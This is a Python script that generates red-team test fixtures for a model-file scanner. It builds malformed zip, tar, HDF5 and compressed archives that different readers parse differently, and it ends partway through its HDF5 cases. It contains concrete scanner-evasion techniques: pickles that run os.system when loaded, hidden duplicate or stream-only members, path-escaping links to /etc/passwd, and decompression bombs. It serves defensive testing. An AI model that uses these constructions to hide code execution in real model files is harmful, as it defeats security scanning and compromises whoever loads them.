#!/usr/bin/python3
"""Container red-team fixtures (session 4): zip/tar/HDF5/compressed-wrapper
attacks where two readers see two different things, plus bombs. Each file is
written here and then shown to the real readers installed on the machine
(Python zipfile/tarfile, torch.load (miniz), numpy.load, h5py, Info-ZIP
unzip, Go's archive/zip and archive/tar through a small lister); what each
reader saw goes into labels.tsv's last column.

Run from anywhere: /usr/bin/python3 make_containers.py [path-to-golist]
(golist: `go build` of the lister in the comment at the end of this file;
without it the Go column is left out). formats/all TestRedTeamContainers
checks every row.
"""
import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import unicodedata
import zipfile
import zlib

OUT = os.path.dirname(os.path.abspath(__file__))
GOLIST = sys.argv[1] if len(sys.argv) > 1 else None
PY = "/usr/bin/python3"


class Evil:
    """A pickle that runs `echo PWNED-<tag>` when loaded: harmless, visible."""

    def __init__(self, tag):
        self.tag = tag

    def __reduce__(self):
        return (os.system, ("echo PWNED-" + self.tag,))


def evil(tag):
    return pickle.dumps(Evil(tag), protocol=2)


BENIGN = pickle.dumps({"weight": [1.0, 2.0]}, protocol=2)


# ---------------------------------------------------------------- zip bytes

def local(name, data, method=0, flags=0, crc=None, csize=None, usize=None, extra=b"", raw=None):
    body = raw if raw is not None else data
    crc = zlib.crc32(data) if crc is None else crc
    csize = len(body) if csize is None else csize
    usize = len(data) if usize is None else usize
    n = name.encode() if isinstance(name, str) else name
    return struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, flags, method, 0, 0x21, crc, csize, usize, len(n), len(extra)) + n + extra + body


def central(name, data, off, method=0, flags=0, crc=None, csize=None, usize=None, extra=b"", raw=None, ext_attr=0, made=20):
    body = raw if raw is not None else data
    crc = zlib.crc32(data) if crc is None else crc
    csize = len(body) if csize is None else csize
    usize = len(data) if usize is None else usize
    n = name.encode() if isinstance(name, str) else name
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, made, 20, flags, method, 0, 0x21, crc, csize, usize,
                       len(n), len(extra), 0, 0, 0, ext_attr, off) + n + extra


def eocd(count, cdsize, cdoff, comment=b"", clen=None):
    clen = len(comment) if clen is None else clen
    return struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, count, count, cdsize, cdoff, clen) + comment


def simple_zip(members, base=0, comment=b""):
    """members: list of (name, data[, method]); offsets count from base."""
    blob, cd = b"", b""
    for m in members:
        name, data = m[0], m[1]
        method = m[2] if len(m) > 2 else 0
        raw = zlib.compress(data)[2:-4] if method == 8 else data
        off = base + len(blob)
        blob += local(name, data, method=method, raw=raw)
        cd += central(name, data, off, method=method, raw=raw)
    return blob + cd + eocd(len(members), len(cd), base + len(blob), comment)


def torch_members(pkl):
    return [("archive/data.pkl", pkl), ("archive/version", b"3\n")]


# ---------------------------------------------------------------- readers

def run(args, stdin=None, timeout=60):
    try:
        p = subprocess.run(args, capture_output=True, timeout=timeout, input=stdin)
        out = (p.stdout + p.stderr).decode("utf8", "replace")
    except subprocess.TimeoutExpired:
        out = "TIMEOUT"
    return " ".join(out.replace(OUT + "/", "").split())[:300]


def py_zip(path):
    code = ("import zipfile,sys\n"
            "try:\n z=zipfile.ZipFile(sys.argv[1])\n"
            " for i in z.infolist():\n"
            "  try: d=z.read(i.filename); print(i.filename, len(d), repr(d[:16]))\n"
            "  except Exception as e: print(i.filename, 'ERR', type(e).__name__, e)\n"
            "except Exception as e: print('ERR', type(e).__name__, e)\n")
    return "python zipfile: " + run([PY, "-c", code, path])


def torch_load(path):
    code = "import torch,sys\ntry: print('loaded', repr(torch.load(sys.argv[1]))[:80])\nexcept Exception as e: print('ERR', type(e).__name__, str(e)[:120])\n"
    return "torch.load: " + run([PY, "-c", code, path])


def np_load(path):
    code = ("import numpy,sys\ntry:\n z=numpy.load(sys.argv[1], allow_pickle=True)\n"
            " print('files', z.files); [print(k, repr(z[k])[:60]) for k in z.files]\n"
            "except Exception as e: print('ERR', type(e).__name__, str(e)[:120])\n")
    return "numpy.load: " + run([PY, "-c", code, path])


def unzip_l(path):
    return "unzip -l: " + run(["unzip", "-l", path])


def go_list(kind, path):
    if not GOLIST:
        return ""
    return "go archive/%s: %s" % (kind, run([GOLIST, kind, path]))


def py_tar(path):
    code = ("import tarfile,sys\ntry:\n t=tarfile.open(sys.argv[1])\n"
            " for m in t.getmembers():\n"
            "  f=t.extractfile(m) if m.isfile() or m.islnk() else None\n"
            "  d=f.read(16) if f else b''\n"
            "  print(m.name, m.type, m.size, repr(m.linkname), repr(d))\n"
            " for n in ('pickle', 'w.bin'):\n"
            "  if n in t.getnames(): print('extractfile(%s) ->' % n, repr(t.extractfile(n).read(16)))\n"
            "except Exception as e: print('ERR', type(e).__name__, str(e)[:120])\n")
    return "python tarfile: " + run([PY, "-c", code, path])


def torch_tar(path):
    return torch_load(path)


def h5_walk(path):
    code = ("import h5py,sys\nf=h5py.File(sys.argv[1],'r')\nout=[]\n"
            "def v(n,o=None):\n out.append(n)\n"
            "f.visit(v)\nprint(len(out),'objects')\n"
            "for g in ['model_weights']:\n"
            " if g in f:\n  for k in f[g]:\n   l=f[g].get(k,getlink=True)\n"
            "   if type(l).__name__!='HardLink': print(k, type(l).__name__, getattr(l,'filename',''))\n"
            "try: f['model_weights/dense_11/bias'][()]\nexcept Exception as e: print('reading the external link:', type(e).__name__, str(e)[:80])\n")
    return "h5py: " + run([PY, "-c", code, path])


def wrapper(path, mod):
    code = ("import %s,sys\nf=%s.open(sys.argv[1])\nn=0\nwhile True:\n b=f.read(1<<20)\n if not b: break\n n+=len(b)\nprint('inflates to', n, 'bytes')\n" % (mod, mod))
    return "python %s: " % mod + run([PY, "-c", code, path])


# ---------------------------------------------------------------- attacks

CASES = []  # (relpath, expected rule, severity, proofs)


def case(rel, rule, sev, data, *proofs):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    CASES.append((rel, rule, sev, [p(path) for p in proofs]))


Z = lambda p: py_zip(p)
G = lambda p: go_list("zip", p)
T = lambda p: torch_load(p)
N = lambda p: np_load(p)
U = lambda p: unzip_l(p)
PT = lambda p: py_tar(p)
GT = lambda p: go_list("tar", p)


def eocd_attacks():
    # 1. A second archive hidden in the real end record's comment, behind
    # an end record whose comment length runs past the file. Readers that
    # take the last signature (Python zipfile, miniz) open the hidden one;
    # readers that require the comment to fit (Go archive/zip) the real one.
    good = simple_zip(torch_members(BENIGN))
    cut = good.rfind(b"PK\x05\x06")
    head = good[:cut]
    hidden_base = len(good)  # the hidden archive starts right after the real EOCD (inside its comment)
    hid = simple_zip(torch_members(evil("eocd-comment")), base=hidden_base)
    hid_no_eocd = hid[:hid.rfind(b"PK\x05\x06")]
    cd2 = hid[hid.rfind(b"PK\x05\x06"):]
    fake = cd2[:20] + struct.pack("<H", 0xffff)  # comment length runs past the end of the file
    comment = hid_no_eocd + fake
    real_eocd = good[cut:cut + 20] + struct.pack("<H", len(comment))
    case("zip/eocd-fake-in-comment-torch.pt", "archive/ambiguous-archive", "high", head + real_eocd + comment, Z, G, T, U)

    # 2. Same, numpy: the hidden npz holds an object array (pickle).
    arr = io.BytesIO()
    import numpy as np
    np.save(arr, np.array([Evil("npz-comment")], dtype=object), allow_pickle=True)
    ok = io.BytesIO()
    np.save(ok, np.arange(4, dtype=np.float32))
    good = simple_zip([("w.npy", ok.getvalue())])
    cut = good.rfind(b"PK\x05\x06")
    hid = simple_zip([("w.npy", arr.getvalue())], base=len(good))
    e2 = hid.rfind(b"PK\x05\x06")
    comment = hid[:e2] + hid[e2:e2 + 20] + struct.pack("<H", 0x8000)
    case("zip/eocd-fake-in-comment.npz", "archive/ambiguous-archive", "high", good[:cut] + good[cut:cut + 20] + struct.pack("<H", len(comment)) + comment, Z, G, N, U)

    # 3. Two end records, each ending exactly at the end of the file for
    # its own reader: the last one has a short comment and trailing bytes.
    good = simple_zip(torch_members(BENIGN))
    cut = good.rfind(b"PK\x05\x06")
    hid = simple_zip(torch_members(evil("two-eocd")), base=len(good))
    e2 = hid.rfind(b"PK\x05\x06")
    tail = hid[:e2] + hid[e2:e2 + 20] + struct.pack("<H", 4) + b"xx"  # comment claims 4, 2 present
    case("zip/eocd-last-truncated-comment.pt", "archive/ambiguous-archive", "high", good[:cut] + good[cut:cut + 20] + struct.pack("<H", len(tail)) + tail, Z, G, T, U)

    # 4. Prepended bytes with a second central directory where a reader
    # that does not correct for them (miniz, torch.load) looks: the real
    # offset field, counted from the start of the file.
    inner = simple_zip(torch_members(pickle.dumps({"weight": [float(i) for i in range(40)]}, protocol=2)))
    e = inner.rfind(b"PK\x05\x06")
    cdsize, cdoff = struct.unpack("<II", inner[e + 12:e + 20])
    # the miniz view: an archive at the file start whose directory sits at cdoff
    evil_zip = simple_zip(torch_members(evil("miniz-base")))
    ee = evil_zip.rfind(b"PK\x05\x06")
    ecd = evil_zip[struct.unpack("<I", evil_zip[ee + 16:ee + 20])[0]:ee]
    # prefix = evil locals + padding + evil CD placed at cdoff (padded to cdsize)
    elocals = evil_zip[:struct.unpack("<I", evil_zip[ee + 16:ee + 20])[0]]
    if len(elocals) <= cdoff and len(ecd) <= cdsize:
        prefix = elocals + b"\0" * (cdoff - len(elocals)) + ecd + b"\0" * (cdsize - len(ecd))
        case("zip/prefix-second-directory-miniz.pt", "archive/ambiguous-archive", "high", prefix + inner, Z, G, T, U)
    else:
        print("skip prefix-second-directory-miniz: evil archive larger than the benign one's directory offset", len(elocals), cdoff, len(ecd), cdsize)

    # 5. A self-extractor stub before an npz (np.load reads through it).
    stub = b"#!/bin/sh\nexec python3 -c 'print(1)'\nexit 0\n" + b"\0" * 64
    arr = io.BytesIO()
    np.save(arr, np.array([Evil("sfx")], dtype=object), allow_pickle=True)
    case("zip/sfx-stub-npz.npz", "archive/unaccounted-data", "high", stub + simple_zip([("w.npy", arr.getvalue())], base=0), Z, G, N, U)

    # 6. An end record whose entry count disagrees with the directory.
    z = simple_zip(torch_members(BENIGN) + [("archive/extra.pkl", evil("count"))])
    e = z.rfind(b"PK\x05\x06")
    z = z[:e] + z[e:e + 8] + struct.pack("<HH", 2, 2) + z[e + 12:]
    case("zip/eocd-count-short.pt", "archive/inconsistent-header", "high", z, Z, G, T, U)

    # 6b. A Keras 3 archive whose hidden twin (in the end record's
    # comment) names a layer from the os module: Keras opens .keras files
    # with Python's zipfile, so it reads the twin.
    def keras_zip(layer_module, layer_class):
        cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
            {"module": layer_module, "class_name": layer_class, "config": {"name": "l"}, "registered_name": None}]}}
        return [("metadata.json", json.dumps({"keras_version": "3.3.3"}).encode()), ("config.json", json.dumps(cfg).encode()),
                ("model.weights.h5", b"")]
    good = simple_zip(keras_zip("keras.layers", "Dense"))
    cut = good.rfind(b"PK\x05\x06")
    hid = simple_zip(keras_zip("os", "system"), base=len(good))
    e2 = hid.rfind(b"PK\x05\x06")
    comment = hid[:e2] + hid[e2:e2 + 20] + struct.pack("<H", 0xffff)
    case("zip/eocd-fake-in-comment.keras", "archive/ambiguous-archive", "high", good[:cut] + good[cut:cut + 20] + struct.pack("<H", len(comment)) + comment,
         lambda p: py_zip(p) + " config.json: " + run([PY, "-c", "import zipfile,sys;print(zipfile.ZipFile(sys.argv[1]).read('config.json')[:160].decode())", p]), G, U)

    # 7. Pickle glued in front of a torch zip: torch.load checks the zip
    # magic at byte 0, finds none and unpickles the front (legacy path);
    # Python zipfile and numpy see only the zip.
    case("zip/pickle-before-torch-zip.pt", "pickle/dangerous-import", "high", evil("prefix") + simple_zip(torch_members(BENIGN)), Z, G, T)


def header_attacks():
    good = torch_members(BENIGN)
    # 8. Local header says deflate, central says store.
    d = evil("method")
    z = local("archive/data.pkl", d, method=8) + local("archive/version", b"3\n")
    cd = central("archive/data.pkl", d, 0, method=0) + central("archive/version", b"3\n", len(local("archive/data.pkl", d)))
    case("zip/local-central-method.pt", "archive/inconsistent-header", "high", z + cd + eocd(2, len(cd), len(z)), Z, G, T, U)

    # 9. Local header size shorter than the central one: a streaming
    # reader stops early, an indexed reader reads the whole pickle.
    l1 = local("archive/data.pkl", d, csize=8, usize=8)
    l2 = local("archive/version", b"3\n")
    cd = central("archive/data.pkl", d, 0) + central("archive/version", b"3\n", len(l1))
    case("zip/local-size-short.pt", "archive/inconsistent-header", "high", l1 + l2 + cd + eocd(2, len(cd), len(l1 + l2)), Z, G, T, U)

    # 10. Data descriptor disagreeing with the central directory.
    desc = struct.pack("<IIII", 0x08074b50, zlib.crc32(b"XX"), 2, 2)
    l1 = local("archive/data.pkl", d, flags=8, crc=0, csize=0, usize=0) + desc
    cd = central("archive/data.pkl", d, 0, flags=8) + central("archive/version", b"3\n", len(l1))
    z = l1 + l2 + cd
    case("zip/data-descriptor-mismatch.pt", "archive/inconsistent-header", "high", z + eocd(2, len(cd), len(l1 + l2)), Z, G, T, U)

    # 11. zip64 extra field with lying sizes: the central record saturates
    # the sizes and the zip64 field claims 4 GiB of data in a tiny file.
    x64 = struct.pack("<HHQQ", 1, 16, 1 << 32, 1 << 32)
    l1 = local("archive/data.pkl", d)
    cd = central("archive/data.pkl", d, 0, csize=0xffffffff, usize=0xffffffff, extra=x64) + central("archive/version", b"3\n", len(l1))
    case("zip/zip64-extra-lying-size.pt", "archive/truncated", "high", l1 + l2 + cd + eocd(2, len(cd), len(l1 + l2)), Z, G, T, U)

    # 12. The encryption bit set in the local header only.
    l1 = local("archive/data.pkl", d, flags=1)
    cd = central("archive/data.pkl", d, 0) + central("archive/version", b"3\n", len(l1))
    case("zip/encrypted-local-only.pt", "archive/inconsistent-header", "high", l1 + l2 + cd + eocd(2, len(cd), len(l1 + l2)), Z, G, T, U)

    # 13. A member only local headers show: stream readers (unzip -
    # streaming, Java ZipInputStream) extract it, the directory hides it.
    hidden = local("archive/data.pkl", evil("stream-only"))
    vis = simple_zip(good)
    e = vis.rfind(b"PK\x05\x06")
    cdoff = struct.unpack("<I", vis[e + 16:e + 20])[0]
    cdsize = struct.unpack("<I", vis[e + 12:e + 16])[0]
    cd = vis[cdoff:e]
    z = vis[:cdoff] + hidden + cd + eocd(2, cdsize, cdoff + len(hidden))
    case("zip/stream-only-member.pt", "pickle/dangerous-import", "critical", z, Z, G, T, U)

    # 13b. The same with a 100 KB hidden member: a gap too large to read
    # at once is searched window by window.
    big = pickle.dumps((Evil("stream-only-big"), b"\x00" * 100000), protocol=2)
    hidden = local("archive/data.pkl", big)
    z = vis[:cdoff] + hidden + cd + eocd(2, cdsize, cdoff + len(hidden))
    case("zip/stream-only-member-large.pt", "pickle/dangerous-import", "critical", z, Z, G, T, U)

    # 14. A directory entry ("x/") that carries data: nothing scans a
    # directory's bytes, but zipfile.open("archive/data.pkl/") returns them.
    dd = evil("dir-data")
    l1 = local("archive/data.pkl/", dd)
    l2 = local("archive/data.pkl", BENIGN)
    l3 = local("archive/version", b"3\n")
    cd = central("archive/data.pkl/", dd, 0) + central("archive/data.pkl", BENIGN, len(l1)) + central("archive/version", b"3\n", len(l1 + l2))
    case("zip/directory-entry-with-data.pt", "archive/inconsistent-header", "high", l1 + l2 + l3 + cd + eocd(3, len(cd), len(l1 + l2 + l3)), Z, G, T, U)

    # 15. Overlapping members (a non-recursive zip bomb's trick): two
    # directory entries share one local header.
    l1 = local("archive/data.pkl", BENIGN)
    l2 = local("archive/version", b"3\n")
    cd = central("archive/data.pkl", BENIGN, 0) + central("archive/version", b"3\n", len(l1)) + central("archive/copy.pkl", BENIGN, 0)
    case("zip/overlapping-members.pt", "archive/inconsistent-header", "high", l1 + l2 + cd + eocd(3, len(cd), len(l1 + l2)), Z, G, T, U)


def name_attacks():
    # 16. Same name twice: Python zipfile and numpy take the last, Go's
    # fs lookups and miniz the first.
    z = simple_zip([("archive/data.pkl", BENIGN), ("archive/data.pkl", evil("dup")), ("archive/version", b"3\n")])
    case("zip/duplicate-name-last-wins.pt", "archive/duplicate-name", "high", z, Z, G, T, U)
    # 17. "./" prefix: one name for readers that normalize, two for others.
    z = simple_zip([("archive/data.pkl", BENIGN), ("./archive/data.pkl", evil("dotslash")), ("archive/version", b"3\n")])
    case("zip/duplicate-dot-slash.pt", "archive/duplicate-name", "high", z, Z, G, T, U)
    # 18. Backslash: one file on Windows extractors, two names elsewhere.
    z = simple_zip([("archive/data.pkl", BENIGN), ("archive\\data.pkl", evil("backslash")), ("archive/version", b"3\n")])
    case("zip/duplicate-backslash.pt", "archive/path-escape", "high", z, Z, G, T, U)
    # 19. Case: one file on Windows/macOS extraction.
    import numpy as np
    ok, bad = io.BytesIO(), io.BytesIO()
    np.save(ok, np.arange(3))
    np.save(bad, np.array([Evil("case")], dtype=object), allow_pickle=True)
    z = simple_zip([("w.npy", ok.getvalue()), ("W.npy", bad.getvalue())])
    case("zip/duplicate-case.npz", "pickle/dangerous-import", "high", z, Z, G, N, U)
    # 20. Unicode normalization: NFC and NFD spellings are one file on
    # macOS (APFS/HFS+ normalize) and two names everywhere else.
    nfc = unicodedata.normalize("NFC", "caf\u00e9.npy")
    nfd = unicodedata.normalize("NFD", "caf\u00e9.npy")
    z = simple_zip([(nfc, ok.getvalue()), (nfd, ok.getvalue())])
    case("zip/duplicate-unicode-nfc-nfd.npz", "archive/duplicate-name", "medium", z, Z, G, N, U)
    # 21. A symbolic link member pointing out of the folder (unzip, bsdtar
    # recreate it; Python writes a small file).
    l1 = local("w.npy", b"/etc/passwd")
    cd = central("w.npy", b"/etc/passwd", 0, ext_attr=(0o120777 << 16), made=(3 << 8) | 20)
    case("zip/symlink-member-out.zip", "archive/path-escape", "high", l1 + cd + eocd(1, len(cd), len(l1)), Z, G, U)


def bomb_attacks():
    # 22. Deflate member whose header declares a small size but inflates
    # far beyond: readers trusting the stream write gigabytes.
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    big = raw.compress(b"\0" * (50 << 20)) + raw.flush()
    l1 = local("archive/data.pkl", b"\0" * 100, method=8, raw=big, crc=0, usize=100)
    cd = central("archive/data.pkl", b"\0" * 100, 0, method=8, raw=big, crc=0, usize=100)
    case("zip/deflate-lies-small.zip", "archive/inconsistent-header", "high", l1 + cd + eocd(1, len(cd), len(l1)), Z, G, U)
    # 23. bzip2 member with a bomb ratio.
    bz = bz2.compress(b"\0" * (50 << 20))
    l1 = local("w.npy", b"", method=12, raw=bz, crc=0, usize=50 << 20)
    cd = central("w.npy", b"", 0, method=12, raw=bz, crc=0, usize=50 << 20)
    case("zip/bzip2-ratio-bomb.npz", "archive/compression-ratio", "high", l1 + cd + eocd(1, len(cd), len(l1)), Z, G, U)
    # 23b. zstd member (method 93) declaring a bomb ratio.
    zs = subprocess.run(["zstd", "-19", "-q", "-c"], input=b"\0" * (50 << 20), capture_output=True).stdout
    l1 = local("w.npy", b"", method=93, raw=zs, crc=0, usize=50 << 20)
    cd = central("w.npy", b"", 0, method=93, raw=zs, crc=0, usize=50 << 20)
    case("zip/zstd-ratio-bomb.npz", "archive/compression-ratio", "high", l1 + cd + eocd(1, len(cd), len(l1)), Z, G, U)
    # 24. Nested zips past the depth limit.
    inner = simple_zip([("w.npy", b"\x93NUMPY")])
    for i in range(10):
        inner = simple_zip([("n%d.zip" % i, inner)])
    case("zip/nested-depth-bomb.zip", "archive/nesting-limit", "high", inner, Z, G, U)
    # 25. zip in zip in gzip: the gzip wrapper inflates into a zip whose
    # member is a bomb.
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    bb = raw.compress(b"\0" * (40 << 20)) + raw.flush()
    l1 = local("big.bin", b"", method=8, raw=bb, crc=0, usize=40 << 20)
    cd = central("big.bin", b"", 0, method=8, raw=bb, crc=0, usize=40 << 20)
    inner = l1 + cd + eocd(1, len(cd), len(l1))
    outer = simple_zip([("inner.zip", inner)])
    case("wrap/zip-in-zip-in-gz.gz", "archive/compression-ratio", "high", gzip.compress(outer, mtime=0), lambda p: wrapper(p, "gzip"))
    # 26-29. Stream wrappers (joblib and torch accept them): ratio bombs.
    z = b"\0" * (40 << 20)
    case("wrap/gzip-ratio-bomb.pkl.gz", "compressed/ratio-exceeded", "high", gzip.compress(z, 9, mtime=0), lambda p: wrapper(p, "gzip"))
    case("wrap/bzip2-ratio-bomb.pkl.bz2", "compressed/ratio-exceeded", "high", bz2.compress(z), lambda p: wrapper(p, "bz2"))
    case("wrap/xz-ratio-bomb.pkl.xz", "compressed/ratio-exceeded", "high", lzma.compress(z), lambda p: wrapper(p, "lzma"))
    case("wrap/lzma-alone-ratio-bomb.pkl.lzma", "compressed/ratio-exceeded", "high", lzma.compress(z, format=lzma.FORMAT_ALONE), lambda p: wrapper(p, "lzma"))
    case("wrap/zlib-ratio-bomb.pkl.z", "compressed/ratio-exceeded", "high", zlib.compress(z, 9),
         lambda p: "python zlib: " + run([PY, "-c", "import zlib,sys;print('inflates to', len(zlib.decompress(open(sys.argv[1],'rb').read())), 'bytes')", p]))
    zst = subprocess.run(["zstd", "-19", "-q", "-c"], input=z, capture_output=True).stdout
    case("wrap/zstd-ratio-bomb.pkl.zst", "compressed/ratio-exceeded", "high", zst, lambda p: "zstd -l: " + run(["zstd", "-lv", p]))


def sevenzip_attacks():
    # 7z packs members together in solid blocks and does not say how
    # many packed bytes each takes: a few KB can declare gigabytes.
    import shutil
    import tempfile
    if not shutil.which("7zz"):
        print("skip 7z: no 7zz (Debian package 7zip)")
        return
    d = tempfile.mkdtemp()
    try:
        with open(os.path.join(d, "weights.bin"), "wb") as f:
            f.write(b"\0" * (60 << 20))
        out = os.path.join(d, "a.7z")
        subprocess.run(["7zz", "a", "-bso0", "-bsp0", "-mx=9", out, os.path.join(d, "weights.bin")], check=True)
        with open(out, "rb") as f:
            data = f.read()
    finally:
        shutil.rmtree(d)
    case("7z/lzma2-ratio-bomb.7z", "archive/compression-ratio", "high", data, lambda p: "7zz l: " + run(["7zz", "l", p])[-160:])


def tarinfo(name, data=b"", **kw):
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    ti.mtime = 0
    for k, v in kw.items():
        setattr(ti, k, v)
    return ti


def mktar(items, fmt=tarfile.PAX_FORMAT):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=fmt) as t:
        for ti, data in items:
            t.addfile(ti, io.BytesIO(data) if data else None)
    return b.getvalue()


def legacy_torch(pkl):
    return [(tarinfo("sys_info", BENIGN), BENIGN), (tarinfo("pickle", pkl), pkl),
            (tarinfo("storages", pickle.dumps(0, protocol=2)), pickle.dumps(0, protocol=2)),
            (tarinfo("tensors", pickle.dumps(0, protocol=2)), pickle.dumps(0, protocol=2))]


def tar_attacks():
    # 30. Same name twice in a tar: tarfile.getmember and extraction take
    # the last copy; a scanner keeping the first sees the benign one.
    items = legacy_torch(BENIGN) + [(tarinfo("pickle", evil("tar-dup")), evil("tar-dup"))]
    case("tar/duplicate-name-last-wins.tar", "archive/duplicate-name", "high", mktar(items), PT, GT)
    # 31. PAX path overriding the header name: PAX-aware readers (Python,
    # Go, GNU tar) see "pickle", ustar-only readers "notes.txt".
    ev = evil("pax-name")
    raw = mktar([(tarinfo("notes.txt", ev, pax_headers={"path": "pickle"}), ev)], fmt=tarfile.PAX_FORMAT)
    case("tar/pax-path-overrides-name.tar", "archive/inconsistent-header", "high", raw, PT, GT)
    # 32. PAX size overriding the header size: PAX readers take 2 bytes,
    # ustar-only readers the whole pickle (and the member boundaries move).
    body = evil("pax-size")
    ti = tarinfo("w.bin", body, pax_headers={"size": "2"})
    b = mktar([(ti, body)], fmt=tarfile.PAX_FORMAT)
    case("tar/pax-size-overrides-size.tar", "archive/inconsistent-header", "high", b, PT, GT)
    # 33. GNU long name differing from the (truncated) header name.
    ev = evil("gnu-longname")
    raw = bytearray(mktar([(tarinfo("a" * 120 + "/pickle", ev), ev)], fmt=tarfile.GNU_FORMAT))
    # the GNU long-name record's payload starts at 512; rename the long name
    i = raw.find(b"a" * 120 + b"/pickle")
    raw[i:i + 127] = b"b" * 120 + b"/pickle"
    # fix the long-name block needs no checksum (its payload is data); the header still says "aaa..."
    case("tar/gnu-longname-mismatch.tar", "archive/inconsistent-header", "high", bytes(raw), PT, GT)
    # 34. PAX 1.0 sparse member: readers that expand the map see other
    # bytes than a raw window on the archive.
    ev = evil("sparse")
    ti = tarinfo("GNUSparseFile.0/w.bin", ev, pax_headers={"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "pickle", "GNU.sparse.realsize": str(len(ev))})
    mp = b"1\n0\n%d\n" % len(ev)
    mp += b"\0" * (512 - len(mp))
    ti.size = len(mp) + len(ev)
    case("tar/pax-sparse-member.tar", "archive/unsupported-method", "high", mktar([(ti, mp + ev)]), PT, GT)
    # 35. Hard link "pickle" to another member: tarfile.extractfile and
    # torch's legacy loader follow it to the hidden pickle.
    ev = evil("hardlink")
    items = [(tarinfo("sys_info", BENIGN), BENIGN), (tarinfo("notes.bin", ev), ev),
             (tarinfo("pickle", type=tarfile.LNKTYPE, linkname="notes.bin"), b""),
             (tarinfo("storages", pickle.dumps(0, protocol=2)), pickle.dumps(0, protocol=2)),
             (tarinfo("tensors", pickle.dumps(0, protocol=2)), pickle.dumps(0, protocol=2))]
    case("tar/hardlink-alias-to-pickle.tar", "pickle/dangerous-import", "high", mktar(items), PT, GT)
    # 35b. A symlink whose PAX linkpath is harmless while the ustar
    # block's link field climbs out: ustar-only extractors link to
    # ../../../etc/passwd, PAX readers to weights.bin.
    ti = tarinfo("tokenizer.model", type=tarfile.SYMTYPE, linkname="weights.bin")
    raw = bytearray(mktar([(ti, b"")], fmt=tarfile.PAX_FORMAT))
    # force a PAX linkpath record and rewrite the block's link field
    ti = tarinfo("tokenizer.model", type=tarfile.SYMTYPE, linkname="weights.bin", pax_headers={"linkpath": "weights.bin"})
    raw = bytearray(mktar([(ti, b"")], fmt=tarfile.PAX_FORMAT))
    blocks = [i for i in range(0, len(raw), 512) if raw[i:i + 15] == b"tokenizer.model"]
    hb = blocks[-1]
    link = b"../../../etc/passwd"
    raw[hb + 157:hb + 257] = link + b"\0" * (100 - len(link))
    raw[hb + 148:hb + 156] = b"        "
    raw[hb + 148:hb + 156] = b"%06o\0 " % sum(raw[hb:hb + 512])
    case("tar/pax-linkpath-hides-escape.tar", "archive/path-escape", "high", bytes(raw), PT, GT)
    # 36. Hard link out of the archive root.
    items = [(tarinfo("w.npy", type=tarfile.LNKTYPE, linkname="../../etc/passwd"), b"")]
    case("tar/hardlink-outside.tar", "archive/path-escape", "high", mktar(items), PT, GT)
    # 37. "./pickle" and "pickle": tarfile normalizes both to one name.
    items = legacy_torch(BENIGN) + [(tarinfo("./pickle", evil("tar-dotslash")), evil("tar-dotslash"))]
    case("tar/duplicate-dot-slash.tar", "archive/duplicate-name", "high", mktar(items), PT, GT)
    # 38. A tar in a gzip in a tar: nested wrappers still reach the pickle.
    inner = gzip.compress(mktar(legacy_torch(evil("nested-tgz"))), mtime=0)
    case("tar/tar-gz-in-tar.tar", "pickle/dangerous-import", "high", mktar([(tarinfo("model.tar.gz", inner), inner)]), PT, GT)


def h5_attacks():
    import h5py
    import numpy as np
    layers = [{"class_name": "Dense", "config": {"name": "dense_%d" % i, "units": 2}} for i in range(12)]
    cfg = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": layers}}).encode()

    def write(rel, extra_links):
        path = os.path.join(OUT, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with h5py.File(path, "w", libver="latest") as f:
            f.attrs["model_config"] = cfg
            f.attrs["keras_version"] = b"2.15.0"
            g = f.create_group("model_weights")
            for i in range(12):
                g.create_group("dense_%d" % i).create_dataset("kernel:0", data=np.ones((2, 2), np.float32))
            k = g["dense_0/kernel:0"]
            for i in range(extra_links):
                g["alias_%04d" % i] = k
            g["dense_11/bias"] = h5py.ExternalLink("/etc/hostname", "/x")
            g["zz_external"] = h5py.ExternalLink("../secret_weights.h5", "/model_weights")
        with open(path, "rb") as f:
            data = f.read()
        CASES.append((rel, "keras/h5-external-reference", "high", [h5_walk(path)]))
        return data
    # A zip (or tar) in the HDF5 user block: h5py finds the superblock at
    # 4096 and loads the Lambda config; zip readers see notes.txt only
    # (the end record's comment covers the HDF5 part), tar readers the
    # tar. The sniffer sees "PK" (or a tar header) at byte 0.
    lam = {"class_name": "Lambda", "config": {"name": "lambda", "function": [
        base64.b64encode(marshal.dumps((lambda x: x * 2).__code__)).decode(), None, None],
        "function_type": "lambda", "module": "__main__", "output_shape": None, "arguments": {}}}
    lcfg = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [lam]}}).encode()

    def userblock(rel, front, fix_comment):
        path = os.path.join(OUT, rel)
        with h5py.File(path, "w", userblock_size=4096) as f:
            f.attrs["model_config"] = lcfg
            f.attrs["keras_version"] = b"2.15.0"
        data = bytearray(open(path, "rb").read())
        front = bytearray(front)
        if fix_comment:
            front[-2:] = struct.pack("<H", len(data) - len(front))
        data[:len(front)] = front
        case(rel, "keras/lambda-code", "critical", bytes(data), Z if fix_comment else PT,
             lambda p: "h5py: " + run([PY, "-c", "import h5py,sys;print('model_config', h5py.File(sys.argv[1],'r').attrs['model_config'][:90])", p]))
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("notes.txt", "hello")
    userblock("h5/zip-in-hdf5-userblock.h5", b.getvalue(), True)
    userblock("h5/tar-in-hdf5-userblock.h5", mktar([(tarinfo("notes.txt", b"hello"), b"hello")], fmt=tarfile.USTAR_FORMAT)[:2048], False)

    # 39. An external link in a group with more than 8 links: the group's
    # links live in a fractal heap (dense storage), not a symbol table.
    write("h5/dense-links-external-link.h5", 0)
    # 40. The same behind 600 links: indirect heap blocks and a two-level
    # B-tree.
